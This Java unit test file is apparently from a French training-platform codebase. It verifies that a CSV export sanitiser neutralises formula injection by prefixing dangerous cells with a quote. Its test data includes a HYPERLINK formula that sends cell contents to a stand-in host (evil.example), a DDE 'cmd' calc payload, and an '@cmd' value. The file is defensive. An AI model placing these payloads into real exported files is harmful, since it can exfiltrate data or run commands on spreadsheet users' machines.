package fr.formaflow.platform;

import static org.assertj.core.api.Assertions.assertThat;

import fr.formaflow.reports.ReportCsv;
import fr.formaflow.reports.ReportTable;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Issue 27: a title =HYPERLINK("http://evil.example/?d="&A2;…) was exported as is, a formula in the funder's spreadsheet. */
class CsvCellsTest {

    static final String ATTACK = "=HYPERLINK(\"http://evil.example/?d=\"&A2;\"Cliquez\")";

    @Test
    void cellsStartingLikeAFormulaAreWrittenAsText() {
        assertThat(CsvCells.safe(ATTACK)).isEqualTo("'" + ATTACK);
        assertThat(CsvCells.safe("+33 6 00 00 00 00")).isEqualTo("'+33 6 00 00 00 00");
        assertThat(CsvCells.safe("-2+3+cmd|' /C calc'!A0")).startsWith("'-");
        assertThat(CsvCells.safe("@SUM(A1:A2)")).isEqualTo("'@SUM(A1:A2)");
        assertThat(CsvCells.safe("\t=1+1")).isEqualTo("'\t=1+1");
        assertThat(CsvCells.safe("\r=1+1")).isEqualTo("'\r=1+1");
        // numbers, dates and ordinary text are left as they are
        assertThat(CsvCells.safe("-12,50")).isEqualTo("-12,50");
        assertThat(CsvCells.safe("1234,5")).isEqualTo("1234,5");
        assertThat(CsvCells.safe("02/03/2026")).isEqualTo("02/03/2026");
        assertThat(CsvCells.safe("Accessoiriste = régisseur")).isEqualTo("Accessoiriste = régisseur");
        assertThat(CsvCells.safe(null)).isEmpty();
        assertThat(CsvCells.safe("")).isEmpty();
    }

    @Test
    void reportsWrittenAsCsvCarryNoFormula() {
        byte[] csv = ReportCsv.write(new ReportTable("Actions", "2026", List.of("Intitulé", "Montant"),
                List.of(List.of(ATTACK, "-150,00"), List.of("@cmd", "12"))));
        List<List<String>> read = ReportCsv.read(csv);
        assertThat(read.get(1)).containsExactly("'" + ATTACK, "-150,00");
        assertThat(read.get(2)).containsExactly("'@cmd", "12");
    }
}
